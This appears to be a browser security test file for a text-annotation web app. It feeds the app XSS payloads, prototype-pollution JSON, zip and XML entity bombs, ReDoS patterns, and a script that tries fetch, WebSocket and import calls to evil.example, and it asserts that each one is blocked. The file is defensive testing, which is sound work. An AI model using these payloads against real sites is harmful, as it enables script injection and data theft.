// Texts, files and links that try to run a program, to reach another host, or to use up the machine.
import assert from "node:assert/strict";
import { another, drawn, drop, marked, messages, paste, pasteStory, ready, text } from "../harness/actions.mjs";
import { docx, docxOf } from "../harness/files.mjs";
import { eventually, inEachBrowser } from "../harness/page.mjs";
import { catchSaves, caught } from "../harness/saving.mjs";

/** @typedef {import("puppeteer-core").Page} Page */

const bytes = (/** @type {string} */ text) => [...new TextEncoder().encode(text)];
const json = (/** @type {unknown} */ value) => bytes(JSON.stringify(value));
const file = (/** @type {string} */ name, /** @type {number[]} */ bytes) => ({ name, type: "", bytes });

const IMG = "<img src=x onerror=alert(1)>";
const SCRIPT = "</script><script>alert(2)</script>";
const SVG = "<svg/onload=alert(3)>";
const LINK = "javascript:alert(4)";

/** Everything on the page that is not ours: elements that load or run, handlers in attributes, links that run. @param {Page} page */
const planted = (page) => page.evaluate(() => [...document.querySelectorAll("*")].filter((e) =>
  /^(img|script|iframe|object|embed|base|meta|link|svg)$/.test(e.localName) && (e.closest("main, aside, dialog, .toasts") && !e.matches("svg.icon, svg.timeline, aside svg"))
  || [...e.attributes].some((a) => a.name.startsWith("on") || /^\s*javascript:/i.test(a.value))).map((e) => e.outerHTML.slice(0, 200)));

/** Whether objects of the page's scripts were given what they should not have. @param {Page} page */
const polluted = (page) => page.evaluate(() => "evil" in {} || "evil" in [] || "evil" in Function.prototype);

/** Opens every view that shows what was found. @param {Page} page */
async function lookRound(page) {
  for (const tab of ["entities", "quotes", "timeline", "figures", "notes", "inspect"]) {
    await page.$eval(`#tab-${tab}`, (e) => /** @type {HTMLElement} */ (e).click());
  }
  await page.evaluate(() => document.querySelectorAll("mark").forEach((mark) => /** @type {HTMLElement} */ (mark).click()));
}

const HTML = `<p>Maria ${IMG} Ortega went to Paris.</p><svg onload=alert(1)><p>And back.</p></svg><iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
  <a href="${LINK}">Ann Lee</a><math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=alert(1)>">
  <link rel=stylesheet href=https://evil.example/x.css><base href=https://evil.example/><meta http-equiv=refresh content="0;url=https://evil.example/"><p>said Ann Lee.</p>`;

inEachBrowser("hostile HTML, pasted and dropped and opened, is text", async ({ page }) => {
  await paste(page, { "text/plain": "x", "text/html": HTML });
  await marked(page);
  await lookRound(page);
  assert.deepEqual(await planted(page), []);
  await another(page);
  await page.evaluate((html) => {
    const transfer = new DataTransfer();
    transfer.setData("text/html", html);
    const event = new DragEvent("drop", { bubbles: true, cancelable: true });
    Object.defineProperty(event, "dataTransfer", { value: transfer });
    document.body.dispatchEvent(event);
  }, HTML);
  await marked(page);
  await drop(page, [file("a.html", bytes(HTML))]);
  await marked(page);
  assert.deepEqual(await planted(page), []);
  assert.ok((await drawn(page)).join(" ").includes("Ann Lee"));
});

inEachBrowser("names, labels, speakers and notes that are markup stay words", async ({ page }) => {
  const names = [`Maria ${IMG} Ortega`, `Ann ${SCRIPT} Lee`, `Zoë ${SVG} Li`];
  const words = names.map((name) => `“${LINK} ${IMG},” said ${name} of ${IMG} in Paris on 3 May 2024.`).join("\n\n");
  await pasteStory(page, words);
  const mentions = names.map((text, i) => ({ id: `m${i}`, start: words.indexOf(text), end: words.indexOf(text) + text.length, text, label: "person", entity: `e${i}`, score: 1, source: "human", status: "added", note: IMG }));
  const entities = names.map((name, i) => ({ id: `e${i}`, label: "person", name: `${name}${SVG}`, mentions: [`m${i}`], wikidata: i ? LINK : `"><img src=x onerror=alert(1)>` }));
  await drop(page, [file("a.json", json({ format: "rubricator/1", id: IMG, date: null, offsets: "utf16", text: words, mentions, entities, dates: [], quotes: [] }))]);
  await eventually(async () => (await text(page, "#entities")).includes("onload=alert(3)"), "the names of the file");
  await lookRound(page);
  assert.deepEqual(await planted(page), []);
  for (const link of await page.$$eval("a[href]", (all) => all.map((a) => /** @type {HTMLAnchorElement} */ (a).protocol))) assert.match(link, /^https?:$/);
});

inEachBrowser("what is exported for people to read runs nothing", async ({ page, context }) => {
  const words = `“${IMG} [x](${LINK}) ${SCRIPT},” said Ann Lee of ${SVG} Paris on 3 May 2024.`;
  await pasteStory(page, words);
  await catchSaves(page);
  /** @type {[string, string][]} */
  const written = [];
  for (const id of ["html", "markdown", "tei"]) {
    await page.evaluate(() => Reflect.deleteProperty(globalThis, "caught"));
    await page.click("#export");
    await page.waitForSelector("#export-dialog[open]");
    await page.evaluate((id) => document.getElementById(`format-${id}`)?.click(), id);
    await page.waitForSelector(`[data-save="${id}"]`);
    await page.click(`[data-save="${id}"]`);
    written.push([id, new TextDecoder().decode(new Uint8Array((await caught(page)).bytes))]);
  }
  const reader = await context.newPage();
  for (const [id, text] of written) {
    if (id === "markdown") assert.doesNotMatch(text, /(?<!\\)\]\(javascript:|[^\\]<(?:img|script|svg)/m, text);
    const bad = id === "markdown" ? [] : await reader.evaluate((text, type) => {
      const parsed = new DOMParser().parseFromString(text, /** @type {DOMParserSupportedType} */ (type));
      return [...parsed.querySelectorAll("*")].filter((e) => /^(img|script|svg|iframe|parsererror)$/.test(e.localName)
        || [...e.attributes].some((a) => a.name.startsWith("on") || /^\s*javascript:/i.test(a.value))).map((e) => e.outerHTML);
    }, text, id === "html" ? "text/html" : "application/xml");
    assert.deepEqual(bad, [], id);
  }
});

const KEYS = '{"__proto__": {"evil": 1}, "constructor": {"prototype": {"evil": 1}}';

inEachBrowser("files with __proto__ and constructor in them change nothing else", async ({ page }) => {
  await pasteStory(page);
  const native = `${KEYS}, "format": "rubricator/1", "id": "a", "date": null, "offsets": "utf16", "text": "Ann Lee left.", "mentions": [], "entities": [], "dates": [], "quotes": []}`;
  await drop(page, [file("a.json", bytes(native))]);
  await eventually(async () => (await drawn(page)).join() === "Ann Lee left.", "the article");
  const record = `${KEYS}, "id": "__proto__", "text": "Bo Day left.", "title": "constructor", "journal": [{"__proto__": {"evil": 1}, "op": "constructor"}, "undo", 7, null], "saved": "{\\"__proto__\\":{\\"evil\\":1}}", "changed": 1}`;
  await drop(page, [file("w.json", bytes(`${KEYS}, "format": "rubricator-workspace/1", "documents": [${record}, 5, null, {"id": 7}], "mine": {"labels": {"__proto__": 9, "x": "red}*{display:none", "constructor": 40}, "words": 5}}`))]);
  await eventually(async () => (await drawn(page)).join() === "Bo Day left.", "the article of the workspace");
  await eventually(async () => (await messages(page)).some((m) => m.includes("cannot be read")), "the word about its corrections");
  await page.reload();
  await eventually(async () => (await drawn(page)).join() === "Bo Day left.", "the article again");
  assert.equal(await polluted(page), false);
  assert.notEqual(await page.$eval("body", (e) => getComputedStyle(e).display), "none");
});

/** A link's fragment. @param {string} text */
const packed = async (text) => Buffer.from(await new Response(new Blob([text]).stream().pipeThrough(new CompressionStream("deflate-raw"))).arrayBuffer()).toString("base64url");

/** @type {[string, () => Promise<string>][]} */
const LINKS = [
  ["no compression", async () => "AAAA"], ["no base64", async () => "%%%"], ["nothing", async () => ""], ["no JSON", () => packed("{")],
  ["null", () => packed("null")], ["a number", () => packed("7")], ["no text", () => packed('{"title":"x"}')],
  ["a bomb", () => packed(" ".repeat(60_000_000))], ["nested arrays", () => packed(`{"text":${"[".repeat(50_000)}${"]".repeat(50_000)}}`)],
];

inEachBrowser("a hostile link is refused in words", async ({ page, url }) => {
  await pasteStory(page);
  for (const [name, make] of LINKS) {
    await page.evaluate(() => document.querySelectorAll(".toast").forEach((toast) => toast.remove()));
    await page.evaluate((hash) => { location.hash = hash; }, `#article=${await make()}`);
    await eventually(async () => (await messages(page)).some((m) => m.includes("not whole")), `the word about ${name}`);
  }
  const evil = await packed(`${KEYS}, "title": ${JSON.stringify(IMG)}, "date": "9999-99-99", "text": ${JSON.stringify(`Ann Lee left ${IMG}.`)}, "saved": "{\\"document\\": 1}"}`);
  await page.goto(`${url}?x#article=${evil}`);
  await eventually(async () => (await drawn(page)).join() === `Ann Lee left ${IMG}.`, "its text");
  assert.deepEqual(await planted(page), []);
  assert.equal(await polluted(page), false);
});

inEachBrowser("positions beyond the text, and backwards, are refused by name", async ({ page }) => {
  await ready(page);
  const mention = { id: "m0", text: "Ann", label: "person", entity: null, score: 1, source: "human", status: "added" };
  for (const [start, end] of [[0, 99], [-5, 3], [3, 1], [0, 2 ** 53], [-(2 ** 40), 2 ** 40], [0.5, 2], [1e400, 3]]) {
    const native = { format: "rubricator/1", id: "a", date: null, offsets: "utf16", text: "Ann left.", mentions: [{ ...mention, start, end }], entities: [], dates: [], quotes: [] };
    await drop(page, [file("a.json", json(native))]);
    await page.waitForSelector("#import-dialog[open]");
    await eventually(async () => /mentions\[0\]/.test(await text(page, "#import-problem")), `the place of ${start}–${end}`);
    await page.keyboard.press("Escape");
    await page.waitForSelector("#import-dialog:not([open])");
  }
  assert.equal(await page.$eval("#article", (e) => /** @type {HTMLElement} */ (e).hidden), true);
});

const ENTITIES = `<!DOCTYPE d [<!ENTITY a "ha">${Array.from({ length: 30 }, (_, i) => `<!ENTITY a${i} "${(i ? `&a${i - 1};` : "&a;").repeat(10)}">`).join("")}]><d>&a29;</d>`;

inEachBrowser("bombs in zip and XML are refused, and the page goes on", async ({ page }) => {
  await ready(page);
  const bombs = [
    file("zeros.docx", docxOf(Buffer.alloc(100_000_000))), file("entities.docx", docxOf(ENTITIES)),
    file("deep.docx", docxOf(`${"<a>".repeat(200_000)}${"</a>".repeat(200_000)}`)), file("cut.docx", docx(["Ann Lee"]).slice(0, 90)),
  ];
  for (const bomb of bombs) {
    await page.evaluate(() => document.querySelectorAll(".toast").forEach((toast) => toast.remove()));
    await drop(page, [bomb]);
    await eventually(async () => (await messages(page)).some((m) => m.includes(bomb.name) || m.includes("no text")), `the word about ${bomb.name}`);
  }
  await drop(page, [file("good.docx", docx(["Ann Lee went to Rome."]))]);
  await marked(page);
});

inEachBrowser("a hostile word list is refused by line, or is only words", async ({ page }) => {
  await pasteStory(page, "Ann Lee met Bo Day in Rome.");
  await page.click("#own-labels");
  for (const list of ["/(a*)*$/ = ", "Ann Lee\t../../x", `Ann Lee\t${IMG}`, `/${"(".repeat(5000)}/\tperson`, "/a{1000}{1000}{1000}/\tperson"]) {
    await page.$eval("#words", (e, list) => { /** @type {HTMLTextAreaElement} */ (e).value = list; }, list);
    await page.click("#mine-dialog [type=submit]");
    await eventually(async () => (await text(page, "#words-error")).includes("line 1"), `the line of ${list.slice(0, 40)}`);
  }
  await page.$eval("#words", (e) => { /** @type {HTMLTextAreaElement} */ (e).value = "/((a|b)*)*Day/\tconstructor\nRome\t__proto__"; });
  await page.click("#mine-dialog [type=submit]");
  await eventually(async () => (await page.$("mark.own-__proto__")) !== null && (await page.$("mark.own-constructor")) !== null, "the marks");
  await lookRound(page);
  assert.deepEqual(await planted(page), []);
  assert.equal(await polluted(page), false);
});

inEachBrowser("a script that gets in cannot reach out, nor bring in more", async ({ page, faults }) => {
  await pasteStory(page);
  const refused = await page.evaluate(async () => {
    /** @type {[string, () => unknown][]} */
    const tries = [
      ["innerHTML", () => { document.body.innerHTML = "<b>x</b>"; }], ["eval", () => (0, eval)("1")], ["Function", () => Function("1")()],
      ["insertAdjacentHTML", () => document.body.insertAdjacentHTML("beforeend", "<b>x</b>")], ["DOMParser", () => new DOMParser().parseFromString("<b>x</b>", "text/html")],
      ["srcdoc", () => { document.createElement("iframe").srcdoc = "<script>1</script>"; }], ["script.src", () => { document.createElement("script").src = "x.js"; }],
      ["script.text", () => { document.createElement("script").text = "1"; }], ["new policy", () => /** @type {any} */ (globalThis).trustedTypes.createPolicy("evil", {})],
      ["same policy", () => /** @type {any} */ (globalThis).trustedTypes.createPolicy("rubricator", {})], ["worker", () => new Worker("data:text/javascript,1")],
      ["setTimeout text", () => setTimeout(/** @type {any} */ ("1"))], ["beacon", () => { if (!navigator.sendBeacon("https://evil.example/")) throw 1; }],
      ["fetch", () => fetch("https://evil.example/")], ["XMLHttpRequest", () => { const r = new XMLHttpRequest(); r.open("GET", "https://evil.example/", false); r.send(); }],
      ["WebSocket", () => new Promise((_, reject) => { new WebSocket("wss://evil.example/").onerror = reject; })],
      ["EventSource", () => new Promise((_, reject) => { new EventSource("https://evil.example/").onerror = reject; })],
      ["import", () => import(String("https://evil.example/x.js"))], ["image", () => new Promise((_, reject) => { const i = new Image(); i.onerror = reject; i.src = "https://evil.example/x.png"; })],
    ];
    // What the test's own call starts may use eval; what follows may not.
    await new Promise((resolve) => setTimeout(resolve));
    /** @type {string[]} */
    const done = [];
    for (const [name, attempt] of tries) {
      try { await attempt(); done.push(name); } catch { /* refused, as it must be */ }
    }
    return done;
  });
  const policies = await page.evaluate(() => "trustedTypes" in globalThis);
  const onlyByPolicy = ["innerHTML", "insertAdjacentHTML", "DOMParser", "srcdoc", "script.src", "script.text", "new policy", "same policy"];
  // A beacon that a policy stops is still said to be on its way: the violation event below tells.
  assert.deepEqual(refused.filter((name) => name !== "beacon" && (policies || !onlyByPolicy.includes(name))), []);
  await eventually(() => faults.some((f) => f.includes("connect-src https://evil.example")), "the violation event");
  assert.deepEqual(faults.filter((f) => f.startsWith("response:")), []);
  faults.length = 0;
});
